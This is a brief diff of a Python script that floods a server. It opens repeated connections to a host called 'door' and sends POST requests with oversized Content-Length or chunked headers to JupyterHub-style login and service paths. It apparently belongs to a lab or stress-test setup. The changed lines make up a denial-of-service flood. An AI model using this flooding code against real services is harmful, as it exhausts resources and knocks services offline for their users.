@@ -200,7 +200,7 @@ sizes = (b"Content-Length: 90000000", b"Transfer-Encoding: chunked")
 doors, answers = [], []
 print("flooding", flush=True)
 for number in range(40):
-    for path in (b"/hub/login", b"/hub/api/users", b"/services/instructor/start"):
+    for path in (b"/hub/login", b"/services/wall/share", b"/services/instructor/start"):
         door = socket.create_connection(("door", 8000))
         head = b"POST %s HTTP/1.1\\r\\nHost: class\\r\\n%s\\r\\n\\r\\n" % (path, sizes[number % 2])
         try:
